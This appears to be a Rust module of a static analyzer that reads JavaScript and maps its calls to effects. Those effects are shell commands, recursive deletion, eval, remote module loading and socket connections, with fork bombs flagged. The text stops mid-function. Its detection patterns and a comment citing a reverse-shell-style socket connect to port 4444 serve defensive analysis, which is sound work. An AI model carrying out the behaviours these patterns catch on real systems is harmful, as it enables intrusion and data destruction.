//! JavaScript (`node -e`, Deno, Bun): the calls that run commands, delete, read, write,
//! fetch or run code, with the constant values of their arguments (string literals and
//! templates of constants, `+`, `String.fromCharCode`, `split`/`reverse`/`join`/`replace`,
//! `path.join`, `os.homedir()`, `process.env.HOME`), modules however they are bound
//! (`require`, destructuring, `import`, `await import`, the built-in modules `node -e`
//! exposes as globals), and names bound once.

use std::collections::HashMap;

use tree_sitter::{Node, Tree};

use super::scope::{Cx, Names, Slot, Val, join};
use super::tree::{MAX_NESTING, Source};
use super::{Effect, MAX_CODE};

/// What an expression is, as far as the reader follows it.
#[derive(Debug, Clone)]
enum Obj {
    Val(Val),
    /// A number: `+` adds numbers and a mode is written in octal.
    Num(f64),
    Bool(bool),
    /// `null` or `undefined` (an argument left out).
    Null,
    /// A module, global or function, by qualified name (`child_process.execSync`).
    Ref(String),
    List(Vec<Obj>),
    /// An object literal; a key `...` stands for a spread whose keys are not known.
    Dict(Vec<(String, Obj)>),
    /// A method of a known string or list (`'a b'.split`, `[...].join`).
    StrMethod(String, String),
    ListMethod(Vec<Obj>, String),
    /// A property of something not followed: only its name is known.
    Attr(String),
    /// A network response, or something derived from one.
    Response,
    /// `Bun.file(path)` and one of its methods.
    File(Val),
    FileMethod(Val, String),
}

impl Obj {
    fn val(&self) -> Val {
        match self {
            Obj::Val(v) => v.clone(),
            Obj::Num(n) => Val::Known(num_text(*n)),
            Obj::Bool(b) => Val::Known(b.to_string()),
            Obj::Response => Val::Fetched,
            // An array becomes text with commas, as JavaScript converts it.
            Obj::List(items) => {
                let mut out = Val::known("");
                for (n, item) in items.iter().enumerate() {
                    if n > 0 {
                        out = out.concat(Val::known(","));
                    }
                    out = cat(out, item.val());
                }
                out
            }
            _ => Val::Unknown,
        }
    }

    /// Whether the value is true in a condition, if known.
    fn truthy(&self) -> Option<bool> {
        match self {
            Obj::Bool(b) => Some(*b),
            Obj::Null => Some(false),
            Obj::Num(n) => Some(*n != 0.0 && !n.is_nan()),
            Obj::Val(Val::Known(s)) => Some(!s.is_empty()),
            Obj::Val(_) | Obj::Attr(_) | Obj::Response => None,
            _ => Some(true),
        }
    }

    /// The value of `key` in an object literal.
    fn key(&self, key: &str) -> Obj {
        match self {
            Obj::Dict(pairs) => match pairs.iter().rev().find(|(k, _)| k == key || k == "...") {
                Some((k, v)) if k == key => v.clone(),
                Some(_) => Obj::Val(Val::Unknown),
                None => Obj::Null,
            },
            Obj::Null => Obj::Null,
            _ => Obj::Val(Val::Unknown),
        }
    }

    fn items(self) -> Vec<Val> {
        match self {
            Obj::List(items) => items.iter().map(Obj::val).collect(),
            other => vec![other.val()],
        }
    }
}

/// A call's arguments, evaluated; `open` when a spread's items are not known.
struct Args {
    items: Vec<Obj>,
    open: bool,
}

impl Args {
    fn get(&self, n: usize) -> Obj {
        match self.items.get(n) {
            Some(o) => o.clone(),
            None if self.open => Obj::Val(Val::Unknown),
            None => Obj::Null,
        }
    }

    fn val(&self, n: usize) -> Val {
        self.get(n).val()
    }
}

/// Reads a JavaScript program.
pub(super) fn read(cx: &mut Cx, tree: &Tree, src: &Source<'_>) {
    cx.allow(src.text.len());
    let root = tree.root_node();
    let mut js = Js {
        cx,
        src,
        names: Names::default(),
        alts: HashMap::new(),
        pin: None,
        loops: 0,
    };
    js.bind_all(root, 0);
    js.walk(root, 0);
}

struct Js<'a, 'c, 't> {
    cx: &'c mut Cx,
    src: &'a Source<'a>,
    names: Names<'t>,
    /// Every binding of each name, with the keys destructuring takes from the value.
    alts: HashMap<String, Vec<(Slot<'t>, Vec<String>)>>,
    /// A name bound more than once, evaluated as one of its bindings (see [`Js::call`]).
    pin: Option<(&'a str, Obj)>,
    loops: usize,
}

impl<'a, 'c, 't> Js<'a, 'c, 't> {
    fn text(&self, node: Node<'_>) -> &'a str {
        self.src.of(node)
    }

    fn line(&self, node: Node<'_>) -> usize {
        self.src.line(node)
    }

    /// Gathers the names the code binds (see [`Names`]).
    fn bind_all(&mut self, node: Node<'t>, depth: usize) {
        if depth > 2 * MAX_NESTING || !self.cx.step(self.line(node)) {
            return;
        }
        let field = |f| node.child_by_field_name(f);
        match node.kind() {
            "variable_declarator" => match (field("name"), field("value")) {
                (Some(name), Some(value)) => self.bind_pattern(name, value, Vec::new()),
                (name, _) => self.forget_in(name),
            },
            "assignment_expression" => match (field("left"), field("right")) {
                (Some(l), Some(r)) if l.kind() == "identifier" => {
                    self.bind(self.text(l), Slot::Expr(r), Vec::new())
                }
                (Some(l), Some(r)) if l.kind() == "parenthesized_expression" => {
                    match l.named_child(0) {
                        Some(p) => self.bind_pattern(p, r, Vec::new()),
                        None => self.forget_in(Some(l)),
                    }
                }
                (l, _) => self.forget_root(l),
            },
            "augmented_assignment_expression" => self.forget_root(field("left")),
            "update_expression" => self.forget_root(field("argument")),
            "unary_expression" if self.text(node).starts_with("delete") => {
                self.forget_root(field("argument"))
            }
            // An object changed in place is no longer the literal it was bound to.
            "call_expression" => {
                let callee = field("function");
                let method = callee
                    .filter(|c| c.kind() == "member_expression")
                    .and_then(|c| c.child_by_field_name("property"))
                    .map(|p| self.text(p));
                if method.is_some_and(|m| MUTATORS.contains(&m)) {
                    self.forget_root(callee);
                }
                if callee.is_some_and(|c| self.text(c).starts_with("Object.")) {
                    let first = field("arguments").and_then(|a| a.named_child(0));
                    self.forget_root(first);
                }
            }
            "for_in_statement" => self.forget_in(field("left")),
            "function_declaration"
            | "generator_function_declaration"
            | "class_declaration"
            | "function_expression"
            | "generator_function"
            | "class" => {
                self.forget_in(field("name"));
                self.forget_in(field("parameters"));
            }
            "arrow_function" => {
                self.forget_in(field("parameter"));
                self.forget_in(field("parameters"));
            }
            "method_definition" => self.forget_in(field("parameters")),
            "catch_clause" => self.forget_in(field("parameter")),
            "import_statement" => self.bind_import(node),
            _ => {}
        }
        let mut c = node.walk();
        for child in node.named_children(&mut c) {
            self.bind_all(child, depth + 1);
        }
    }

    /// Binds `name` to `slot` and the keys `path` taken from it, keeping every binding.
    fn bind(&mut self, name: &str, slot: Slot<'t>, path: Vec<String>) {
        self.names.bind(name, slot.clone());
        let alts = self.alts.entry(name.to_owned()).or_default();
        if alts.len() < MAX_ALTS {
            alts.push((slot, path));
        }
    }

    /// `const {a, b: c} = value`, `[x, y] = value`: each name with its key path.
    fn bind_pattern(&mut self, pattern: Node<'t>, value: Node<'t>, path: Vec<String>) {
        match pattern.kind() {
            "identifier" => self.bind(self.text(pattern), Slot::Expr(value), path),
            "object_pattern" | "array_pattern" => {
                let array = pattern.kind() == "array_pattern";
                let mut c = pattern.walk();
                let parts: Vec<Node<'t>> = pattern.named_children(&mut c).collect();
                for (n, part) in parts.into_iter().enumerate() {
                    let mut sub = path.clone();
                    match part.kind() {
                        "shorthand_property_identifier_pattern" => {
                            sub.push(self.text(part).to_owned());
                            self.bind(self.text(part), Slot::Expr(value), sub);
                        }
                        "pair_pattern" => match (
                            part.child_by_field_name("key"),
                            part.child_by_field_name("value"),
                        ) {
                            (Some(k), Some(v)) if k.kind() != "computed_property_name" => {
                                sub.push(self.text(k).trim_matches(['"', '\'']).to_owned());
                                self.bind_pattern(v, value, sub);
                            }
                            _ => self.forget_in(Some(part)),
                        },
                        _ if array && part.kind() != "rest_pattern" => {
                            sub.push(n.to_string());
                            self.bind_pattern(part, value, sub);
                        }
                        // Defaults and rests are not followed.
                        _ => self.forget_in(Some(part)),
                    }
                }
            }
            _ => self.forget_in(Some(pattern)),
        }
    }

    fn bind_import(&mut self, node: Node<'t>) {
        let Some(source) = node.child_by_field_name("source") else {
            return;
        };
        let module = module_name(self.text(source).trim_matches(['"', '\'']));
        let mut c = node.walk();
        let Some(clause) = node
            .named_children(&mut c)
            .find(|n| n.kind() == "import_clause")
        else {
            return;
        };
        let mut c = clause.walk();
        for part in clause.named_children(&mut c) {
            match part.kind() {
                "identifier" => self.bind(self.text(part), Slot::Ref(module.clone()), Vec::new()),
                "namespace_import" => {
                    if let Some(id) = part.named_child(0) {
                        self.bind(self.text(id), Slot::Ref(module.clone()), Vec::new());
                    }
                }
                "named_imports" => {
                    let mut c = part.walk();
                    for spec in part.named_children(&mut c) {
                        let name = spec.child_by_field_name("name");
                        let alias = spec.child_by_field_name("alias").or(name);
                        if let (Some(n), Some(a)) = (name, alias) {
                            let q = format!("{module}.{}", self.text(n).trim_matches(['"', '\'']));
                            self.bind(self.text(a), Slot::Ref(q), Vec::new());
                        }
                    }
                }
                _ => {}
            }
        }
    }

    /// Every name under `node` becomes not known.
    fn forget_in(&mut self, node: Option<Node<'_>>) {
        let Some(node) = node else { return };
        if matches!(
            node.kind(),
            "identifier" | "shorthand_property_identifier_pattern"
        ) {
            let name = self.text(node);
            self.names.forget(name);
            return;
        }
        let mut c = node.walk();
        for child in node.named_children(&mut c) {
            self.forget_in(Some(child));
        }
    }

    /// The name an object changed in place is reached by (`o` in `o.a.b = 1`).
    fn forget_root(&mut self, mut node: Option<Node<'_>>) {
        while let Some(n) = node {
            match n.kind() {
                "identifier" => return self.forget_in(Some(n)),
                "member_expression" | "subscript_expression" => {
                    node = n.child_by_field_name("object")
                }
                "parenthesized_expression" => node = n.named_child(0),
                _ => return self.forget_in(Some(n)),
            }
        }
    }

    /// Visits every node, reading the calls' effects.
    fn walk(&mut self, node: Node<'t>, depth: usize) {
        if depth > 2 * MAX_NESTING {
            self.cx
                .opaque("the code nests too deeply to read", self.line(node));
            return;
        }
        if !self.cx.step(self.line(node)) {
            return;
        }
        let is_loop = matches!(
            node.kind(),
            "for_statement" | "for_in_statement" | "while_statement" | "do_statement"
        );
        self.loops += usize::from(is_loop);
        match node.kind() {
            "call_expression" | "new_expression" => self.call(node),
            "with_statement" => self.cx.opaque(
                "the code uses `with`, which makes its names dynamic",
                self.line(node),
            ),
            _ => {}
        }
        let mut c = node.walk();
        for child in node.named_children(&mut c) {
            self.walk(child, depth + 1);
        }
        self.loops -= usize::from(is_loop);
    }

    /// The callee and arguments of a call or `new`, with `f.call(t, ...)`,
    /// `f.apply(t, [...])` and `Reflect.apply(f, t, [...])` seen through.
    fn callee_and_args(&mut self, node: Node<'t>, depth: usize) -> Option<(Obj, Args)> {
        let function = node
            .child_by_field_name("function")
            .or_else(|| node.child_by_field_name("constructor"))?;
        let mut callee = match function.kind() {
            "import" => Obj::Ref("import".into()),
            _ => self.eval(function, depth + 1),
        };
        let mut args = self.args(node, depth);
        for _ in 0..4 {
            let Obj::Ref(q) = &callee else { break };
            let q = canonical(q);
            let spread = |o: Obj| match o {
                Obj::List(items) => Args { items, open: false },
                _ => Args {
                    items: Vec::new(),
                    open: true,
                },
            };
            if q == "Reflect.apply" {
                callee = args.get(0);
                args = spread(args.get(2));
            } else if let Some(f) = q.strip_suffix(".apply") {
                callee = Obj::Ref(f.to_owned());
                args = spread(args.get(1));
            } else if let Some(f) = q.strip_suffix(".call") {
                callee = Obj::Ref(f.to_owned());
                args.items = args.items.into_iter().skip(1).collect();
            } else {
                break;
            }
        }
        Some((callee, args))
    }

    fn args(&mut self, node: Node<'t>, depth: usize) -> Args {
        let mut args = Args {
            items: Vec::new(),
            open: false,
        };
        let Some(list) = node.child_by_field_name("arguments") else {
            return args;
        };
        if list.kind() == "template_string" {
            args.items.push(Obj::Val(self.template(list, depth + 1)));
            return args;
        }
        let mut c = list.walk();
        let nodes: Vec<Node<'t>> = list.named_children(&mut c).collect();
        for a in nodes {
            match a.kind() {
                "comment" => {}
                "spread_element" => match a.named_child(0).map(|i| self.eval(i, depth + 1)) {
                    Some(Obj::List(items)) => args.items.extend(items),
                    _ => args.open = true,
                },
                _ => {
                    let v = self.eval(a, depth + 1);
                    args.items.push(v);
                }
            }
        }
        args
    }

    /// The effect of one call or `new`. When the callee is reached from a name bound more
    /// than once (`function f(cp) {}` beside `const cp = require(...)`), each binding is
    /// tried: a parameter or a second assignment must not hide the module.
    fn call(&mut self, node: Node<'t>) {
        let mut root = node
            .child_by_field_name("function")
            .or_else(|| node.child_by_field_name("constructor"));
        while let Some(n) = root {
            root = match n.kind() {
                "member_expression" | "subscript_expression" => n.child_by_field_name("object"),
                "call_expression" => n.child_by_field_name("function"),
                "parenthesized_expression" | "await_expression" => n.named_child(0),
                _ => break,
            };
        }
        let name = root
            .filter(|r| r.kind() == "identifier")
            .map(|r| self.text(r));
        let alts = match name {
            Some(name) if matches!(self.names.get(name), Some(Slot::Many)) => {
                self.alts.get(name).cloned().unwrap_or_default()
            }
            _ => Vec::new(),
        };
        let mut tried = false;
        if let (Some(name), Some(r)) = (name, root) {
            for (slot, path) in alts {
                let obj = self.binding(name, slot, path, r, 0);
                if matches!(obj, Obj::Ref(_)) {
                    self.pin = Some((name, obj));
                    self.call_once(node);
                    tried = true;
                }
            }
            self.pin = None;
        }
        if !tried {
            self.call_once(node);
        }
    }

    fn call_once(&mut self, node: Node<'t>) {
        let line = self.line(node);
        let Some((callee, args)) = self.callee_and_args(node, 0) else {
            return;
        };
        // `.then(eval)`, `.on('data', cp.execSync)`: what it runs is whatever arrives.
        let wraps = matches!(&callee, Obj::Ref(q) if q.starts_with("util."));
        if !wraps
            && args
                .items
                .iter()
                .any(|a| matches!(a, Obj::Ref(q) if runs_code(&canonical(q))))
        {
            self.cx.opaque(
                "the code passes a function that runs code or commands as a value",
                line,
            );
        }
        let name = match callee {
            Obj::Ref(q) => canonical(&q),
            Obj::Attr(a) if BY_NAME.contains(&a.as_str()) => format!("?.{a}"),
            Obj::FileMethod(path, m) => return self.file_method(path, &m, line),
            _ => return,
        };
        let (module, f) = name.rsplit_once('.').unwrap_or(("", &name));
        let (module, f) = (module.to_owned(), f.to_owned());
        let a = |n: usize| args.get(n);
        match (module.as_str(), f.as_str()) {
            ("child_process", "exec" | "execSync") | ("?", "execSync") => {
                self.cx.found(Effect::Shell(args.val(0)), line)
            }
            ("child_process" | "?", "spawn" | "spawnSync" | "execFile" | "execFileSync") => {
                self.spawn(&args, line)
            }
            ("child_process" | "cluster", "fork") if self.loops > 0 => self
                .cx
                .opaque("the code forks in a loop (a fork bomb)", line),
            ("child_process", "fork") => {
                let mut argv = vec![Val::known("node"), args.val(0)];
                if matches!(a(1), Obj::List(_) | Obj::Val(_)) {
                    argv.extend(a(1).items());
                }
                self.cx.found(Effect::Exec(argv), line)
            }
            ("fs-extra", "remove" | "removeSync" | "emptyDir" | "emptyDirSync")
            | ("rimraf", "sync" | "rimraf" | "rimrafSync")
            | ("", "rimraf") => self.rm(&["-r", "-f"], args.val(0), line),
            ("process", "kill") => {
                let sig = match a(1) {
                    Obj::Null => Val::known("-SIGTERM"),
                    other => match other.val() {
                        Val::Known(s) => Val::Known(format!("-{s}")),
                        v => v,
                    },
                };
                self.cx.command("kill", vec![sig, args.val(0)], line)
            }
            ("" | "?", "eval" | "_compile")
            | ("vm", "runInNewContext" | "runInThisContext" | "runInContext" | "Script")
            | ("vm", "compileFunction" | "SourceTextModule")
            | ("?", "runInNewContext" | "runInThisContext" | "runInContext") => {
                self.cx.eval(args.val(0), line)
            }
            ("", "Function" | "AsyncFunction") | ("?", "constructor") => {
                if let Some(body) = args.items.last() {
                    // The body is a function's: `return` is allowed in it.
                    let body = match body.val() {
                        Val::Known(b) if !args.open => Val::Known(format!("(function(){{{b}\n}})")),
                        Val::Known(_) => Val::Unknown,
                        v => v,
                    };
                    self.cx.eval(body, line)
                } else if args.open {
                    self.cx.eval(Val::Unknown, line)
                }
            }
            ("", "setTimeout" | "setInterval" | "setImmediate") => {
                if let Obj::Val(v @ (Val::Known(_) | Val::Fetched)) = a(0) {
                    self.cx.eval(v, line)
                }
            }
            ("worker_threads" | "", "Worker") => {
                if a(1).key("eval").truthy() != Some(false) {
                    self.cx.eval(args.val(0), line)
                } else {
                    self.cx
                        .found(Effect::Exec(vec![Val::known("node"), args.val(0)]), line)
                }
            }
            ("", "require" | "import") => self.require(args.val(0), line),
            ("process", "binding" | "_linkedBinding" | "dlopen") | ("Deno", "dlopen") => {
                self.cx.opaque("the code calls native code directly", line)
            }
            ("ffi-napi" | "ffi" | "bun:ffi" | "koffi", _) => {
                self.cx.opaque("the code calls native code directly", line)
            }
            ("Bun", "spawn" | "spawnSync") => {
                let cmd = match a(0) {
                    d @ Obj::Dict(_) => d.key("cmd"),
                    other => other,
                };
                self.cx.found(Effect::Exec(cmd.items()), line)
            }
            ("Bun" | "zx" | "execa", "$")
            | ("execa", "command" | "commandSync" | "execaCommand" | "execaCommandSync")
            | ("shelljs", "exec") => self.cx.found(Effect::Shell(args.val(0)), line),
            ("execa", "execa" | "execaSync" | "sync") | ("", "execa") => self.spawn(&args, line),
            // shelljs's commands take the shell command's arguments.
            ("shelljs", "rm" | "cp" | "mv" | "chmod" | "ln" | "cat" | "sed" | "touch") => {
                let mut argv = vec![Val::known(f.clone())];
                argv.extend(args.items.iter().map(Obj::val));
                if args.open {
                    argv.push(Val::Unknown);
                }
                self.cx.found(Effect::Exec(argv), line)
            }
            ("Bun", "write") => {
                let path = match a(0) {
                    Obj::File(p) => p,
                    other => other.val(),
                };
                self.cx.command("tee", vec![path], line)
            }
            ("fs" | "Deno" | "?", _) => self.fs(&module, &f, &args, line),
            _ => {
                if let Some(url) = self.url(&module, &f, &args) {
                    self.cx.command("curl", vec![url], line)
                }
            }
        }
    }

    /// `spawn(program, [args], {shell})` and its kin.
    fn spawn(&mut self, args: &Args, line: usize) {
        let mut argv = vec![args.val(0)];
        let options = match args.get(1) {
            Obj::List(items) => {
                argv.extend(items.iter().map(Obj::val));
                args.get(2)
            }
            o @ (Obj::Dict(_) | Obj::Null) => o,
            other => {
                argv.push(other.val());
                args.get(2)
            }
        };
        match options.key("shell").truthy() {
            Some(false) => self.cx.found(Effect::Exec(argv), line),
            // With a shell the program and its arguments are one line, joined by spaces.
            _ => {
                let mut text = Val::known("");
                for (n, v) in argv.into_iter().enumerate() {
                    if n > 0 {
                        text = text.concat(Val::known(" "));
                    }
                    text = text.concat(v);
                }
                self.cx.found(Effect::Shell(text), line)
            }
        }
    }

    /// The file calls of `fs`, `fs/promises`, Deno, and the `...Sync` names alone.
    fn fs(&mut self, module: &str, f: &str, args: &Args, line: usize) {
        let base = f.strip_suffix("Sync").unwrap_or(f);
        if module == "?" && base == f && !f.starts_with("create") {
            if let Some(url) = self.url(module, f, args) {
                self.cx.command("curl", vec![url], line)
            }
            return;
        }
        // A number is a file descriptor (`readFileSync(0)` reads standard input).
        if matches!(args.get(0), Obj::Num(_)) {
            return;
        }
        let path = args.val(0);
        let second = args.val(1);
        match base {
            "rm" | "remove" => {
                let options = args.get(1);
                let recursive = options.key("recursive").truthy() != Some(false);
                let force = module != "Deno" && options.key("force").truthy() != Some(false);
                let flags: &[&'static str] = match (recursive, force) {
                    (true, true) => &["-r", "-f"],
                    (true, false) => &["-r"],
                    (false, true) => &["-f"],
                    (false, false) => &[],
                };
                self.rm(flags, path, line)
            }
            "rmdir" if args.get(1).key("recursive").truthy() != Some(false) => {
                self.rm(&["-r"], path, line)
            }
            "rmdir" => self.cx.command("rmdir", vec![path], line),
            "unlink" => self.rm(&[], path, line),
            "readFile" | "readTextFile" | "createReadStream" => {
                self.cx.command("cat", vec![path], line)
            }
            "writeFile" | "writeTextFile" | "appendFile" | "createWriteStream" | "create" => {
                self.cx.command("tee", vec![path], line)
            }
            "open" => {
                let flags = match args.get(1) {
                    Obj::Null => "r".to_owned(),
                    Obj::Dict(_) => "w".to_owned(),
                    other => other.val().text().map_or("r+".to_owned(), str::to_owned),
                };
                if flags.contains(['r', '+']) {
                    self.cx.command("cat", vec![path.clone()], line)
                }
                if flags.contains(['w', 'a', '+']) {
                    self.cx.command("tee", vec![path], line)
                }
            }
            "truncate" => {
                let size = match args.get(1) {
                    Obj::Null => Val::known("0"),
                    other => other.val(),
                };
                self.cx
                    .command("truncate", vec![Val::known("-s"), size, path], line)
            }
            "rename" => self.cx.command("mv", vec![path, second], line),
            "copyFile" => self.cx.command("cp", vec![path, second], line),
            "cp" if args.get(2).key("recursive").truthy() != Some(false) => {
                self.cx
                    .command("cp", vec![Val::known("-r"), path, second], line)
            }
            "cp" => self.cx.command("cp", vec![path, second], line),
            "chmod" | "lchmod" => {
                let mode = octal(&args.get(1));
                self.cx.command("chmod", vec![mode, path], line)
            }
            "chown" | "lchown" => self.cx.command("chown", vec![Val::Unknown, path], line),
            "symlink" | "link" => self
                .cx
                .command("ln", vec![Val::known("-s"), path, second], line),
            "kill" if module == "Deno" => {
                let sig = match args.val(1) {
                    Val::Known(s) => Val::Known(format!("-{s}")),
                    _ if matches!(args.get(1), Obj::Null) => Val::known("-SIGTERM"),
                    v => v,
                };
                self.cx.command("kill", vec![sig, path], line)
            }
            "run" if module == "Deno" => {
                let cmd = args.get(0).key("cmd");
                self.cx.found(Effect::Exec(cmd.items()), line)
            }
            "Command" if module == "Deno" => {
                let mut argv = vec![path];
                match args.get(1).key("args") {
                    Obj::Null => {}
                    list => argv.extend(list.items()),
                }
                self.cx.found(Effect::Exec(argv), line)
            }
            _ => {
                if let Some(url) = self.url(module, f, args) {
                    self.cx.command("curl", vec![url], line)
                }
            }
        }
    }

    fn file_method(&mut self, path: Val, method: &str, line: usize) {
        match method {
            "text" | "json" | "arrayBuffer" | "bytes" | "stream" => {
                self.cx.command("cat", vec![path], line)
            }
            "delete" | "unlink" => self.rm(&[], path, line),
            "write" | "writer" => self.cx.command("tee", vec![path], line),
            _ => {}
        }
    }

    /// `require(name)` and `import(name)`: a file runs its code, a URL downloads code.
    fn require(&mut self, name: Val, line: usize) {
        match name {
            Val::Known(m) if m.starts_with("http://") || m.starts_with("https://") => {
                self.cx.command("curl", vec![Val::Known(m)], line);
                self.cx.eval(Val::Fetched, line);
            }
            Val::Known(m) if m.starts_with("data:") => self.cx.eval(Val::Fetched, line),
            Val::Known(m) if m.ends_with(".json") => {
                self.cx.command("cat", vec![Val::Known(m)], line)
            }
            Val::Known(m) if m.starts_with(['.', '/', '~']) => self
                .cx
                .found(Effect::Exec(vec![Val::known("node"), Val::Known(m)]), line),
            Val::Known(_) => {}
            _ => self.cx.opaque(
                "the code loads a module whose name is computed at run time",
                line,
            ),
        }
    }

    /// The address a network call reaches, if it is one.
    fn url(&mut self, module: &str, f: &str, args: &Args) -> Option<Val> {
        let a0 = args.get(0);
        Some(match (module, f) {
            ("", "fetch" | "WebSocket" | "EventSource" | "axios")
            | ("axios" | "undici" | "got" | "node-fetch", _)
            | ("", "got" | "node-fetch")
            | ("Deno" | "Bun", "fetch")
            | ("http" | "https" | "http2", "get" | "request" | "connect") => {
                let scheme = if module == "http" { "http:" } else { "https:" };
                match a0 {
                    Obj::Dict(_) if a0.key("url").truthy() == Some(true) => a0.key("url").val(),
                    Obj::Dict(_) => {
                        let host = a0.key("hostname");
                        let host = if matches!(host, Obj::Null) {
                            a0.key("host")
                        } else {
                            host
                        };
                        let mut url = Val::known(format!("{scheme}//")).concat(host.val());
                        if !matches!(a0.key("port"), Obj::Null) {
                            url = url.concat(Val::known(":")).concat(a0.key("port").val());
                        }
                        match a0.key("path") {
                            Obj::Null => url,
                            p => url.concat(p.val()),
                        }
                    }
                    other => other.val(),
                }
            }
            ("XMLHttpRequest()", "open") => args.val(1),
            ("net" | "tls", "connect" | "createConnection")
            | ("Deno", "connect" | "connectTls") => {
                let (port, host) = match &a0 {
                    Obj::Dict(_) => (a0.key("port"), a0.key("host")),
                    Obj::Val(Val::Known(p)) => return Some(Val::Known(format!("unix:{p}"))),
                    _ => (a0.clone(), args.get(1)),
                };
                let host = match (host, a0.key("hostname")) {
                    (Obj::Null, Obj::Null) => Obj::Val(Val::known("localhost")),
                    (Obj::Null, h) => h,
                    (h, _) => h,
                };
                Val::known("tcp://")
                    .concat(host.val())
                    .concat(Val::known(":"))
                    .concat(port.val())
            }
            // `sock.connect(4444, '10.0.0.1')` on a socket the reader did not follow.
            ("?", "connect") if matches!(a0, Obj::Num(_)) => Val::known("tcp://")
                .concat(args.val(1))
                .concat(Val::known(":"))
                .concat(a0.val()),
            _ => return None,
        })
    }

    /// `rm FLAGS PATH`.
    fn rm(&mut self, flags: &[&'static str], path: Val, line: usize) {
        let mut argv: Vec<Val> = flags.iter().map(|f| Val::known(*f)).collect();
        argv.push(path);
        self.cx.command("rm", argv, line);
    }

    /// What `node` evaluates to.
    fn eval(&mut self, node: Node<'t>, depth: usize) -> Obj {
        if depth > MAX_NESTING || !self.cx.step(self.line(node)) {
            return Obj::Val(Val::Unknown);
        }
        let unknown = Obj::Val(Val::Unknown);
        let first = node.named_child(0);
        match node.kind() {
            "string" => Obj::Val(self.template(node, depth)),
            "template_string" => Obj::Val(self.template(node, depth)),
            "number" => parse_num(self.text(node)).map_or(unknown, Obj::Num),
            "true" => Obj::Bool(true),
            "false" => Obj::Bool(false),
            "null" | "undefined" => Obj::Null,
            "parenthesized_expression" | "await_expression" => match first {
                Some(inner) => self.eval(inner, depth + 1),
                None => unknown,
            },
            // `(0, eval)`: the last expression.
            "sequence_expression" => {
                let mut c = node.walk();
                match node.named_children(&mut c).last() {
                    Some(last) => self.eval(last, depth + 1),
                    None => unknown,
                }
            }
            "assignment_expression" => match node.child_by_field_name("right") {
                Some(r) => self.eval(r, depth + 1),
                None => unknown,
            },
            "array" => {
                let mut items = Vec::new();
                let mut c = node.walk();
                let children: Vec<Node<'t>> = node.named_children(&mut c).collect();
                for item in children {
                    if item.kind() == "spread_element" {
                        match item.named_child(0).map(|n| self.eval(n, depth + 1)) {
                            Some(Obj::List(more)) => items.extend(more),
                            Some(Obj::Val(Val::Known(s))) => {
                                items.extend(s.chars().map(|c| Obj::Val(Val::Known(c.into()))))
                            }
                            _ => items.push(unknown.clone()),
                        }
                    } else if item.kind() != "comment" {
                        items.push(self.eval(item, depth + 1));
                    }
                }
                Obj::List(items)
            }
            "object" => self.object(node, depth),
            "identifier" => self.name(node, depth),
            "member_expression" => {
                let (Some(object), Some(prop)) = (
                    node.child_by_field_name("object"),
                    node.child_by_field_name("property"),
                ) else {
                    return unknown;
                };
                let base = self.eval(object, depth + 1);
                self.member(base, Val::known(self.text(prop)), node)
            }
            "subscript_expression" => {
                let (Some(object), Some(index)) = (
                    node.child_by_field_name("object"),
                    node.child_by_field_name("index"),
                ) else {
                    return unknown;
                };
                let base = self.eval(object, depth + 1);
                let key = self.eval(index, depth + 1).val();
                self.member(base, key, node)
            }
            "binary_expression" => self.binary(node, depth),
            "unary_expression" => {
                let arg = node
                    .child_by_field_name("argument")
                    .map(|a| self.eval(a, depth + 1));
                let op = node.child_by_field_name("operator").map(|o| self.text(o));
                match (op, arg) {
                    (Some("-"), Some(Obj::Num(n))) => Obj::Num(-n),
                    (Some("+"), Some(Obj::Num(n))) => Obj::Num(n),
                    (Some("!"), Some(a)) => a.truthy().map_or(unknown, |t| Obj::Bool(!t)),
                    (Some("void"), _) => Obj::Null,
                    _ => unknown,
                }
            }
            "ternary_expression" => {
                let a = node
                    .child_by_field_name("consequence")
                    .map(|n| self.eval(n, depth + 1));
                let b = node
                    .child_by_field_name("alternative")
                    .map(|n| self.eval(n, depth + 1));
                match (a.map(|o| o.val()), b.map(|o| o.val())) {
                    (Some(a), Some(b)) if a == b => Obj::Val(a),
                    _ => unknown,
                }
            }
            "call_expression" | "new_expression" => self.value_of_call(node, depth),
            _ => unknown,
        }
    }

    fn object(&mut self, node: Node<'t>, depth: usize) -> Obj {
        let mut pairs = Vec::new();
        let mut c = node.walk();
        let children: Vec<Node<'t>> = node.named_children(&mut c).collect();
        for part in children {
            match part.kind() {
                "pair" => {
                    let (Some(k), Some(v)) = (
                        part.child_by_field_name("key"),
                        part.child_by_field_name("value"),
                    ) else {
                        continue;
                    };
                    let key = match k.kind() {
                        "computed_property_name" => match k.named_child(0) {
                            Some(e) => self.eval(e, depth + 1).val(),
                            None => Val::Unknown,
                        },
                        "string" => self.template(k, depth + 1),
                        _ => Val::known(self.text(k)),
                    };
                    let value = self.eval(v, depth + 1);
                    pairs.push((key.text().unwrap_or("...").to_owned(), value));
                }
                "shorthand_property_identifier" => {
                    let value = self.name(part, depth + 1);
                    pairs.push((self.text(part).to_owned(), value));
                }
                "spread_element" => match part.named_child(0).map(|n| self.eval(n, depth + 1)) {
                    Some(Obj::Dict(more)) => pairs.extend(more),
                    _ => pairs.push(("...".to_owned(), Obj::Val(Val::Unknown))),
                },
                "method_definition" => {
                    let name = part
                        .child_by_field_name("name")
                        .map_or("...", |n| self.text(n));
                    pairs.push((name.to_owned(), Obj::Val(Val::Unknown)));
                }
                _ => {}
            }
        }
        Obj::Dict(pairs)
    }

    fn name(&mut self, node: Node<'t>, depth: usize) -> Obj {
        let name = self.text(node);
        if let Some((pinned, obj)) = &self.pin
            && *pinned == name
        {
            return obj.clone();
        }
        match self.names.get(name).cloned() {
            Some(Slot::Expr(_)) => {
                let Some((slot, path)) = self.alts.get(name).and_then(|a| a.first()).cloned()
                else {
                    return Obj::Val(Val::Unknown);
                };
                self.binding(name, slot, path, node, depth)
            }
            Some(Slot::Ref(q)) => Obj::Ref(q),
            // Its value is not known, its name is.
            Some(Slot::Many) => Obj::Attr(name.to_owned()),
            None if GLOBALS.contains(&name) || MODULES.contains(&name) => Obj::Ref(name.into()),
            None if name == "__dirname" => Obj::Val(Val::known(".")),
            None if name == "undefined" => Obj::Null,
            None => Obj::Val(Val::Unknown),
        }
    }

    /// The value of one binding of `name`.
    fn binding(
        &mut self,
        name: &str,
        slot: Slot<'t>,
        path: Vec<String>,
        node: Node<'_>,
        depth: usize,
    ) -> Obj {
        let Slot::Expr(value) = slot else {
            return match slot {
                Slot::Ref(q) => Obj::Ref(q),
                _ => Obj::Val(Val::Unknown),
            };
        };
        if !self.names.enter(name) {
            return Obj::Val(Val::Unknown);
        }
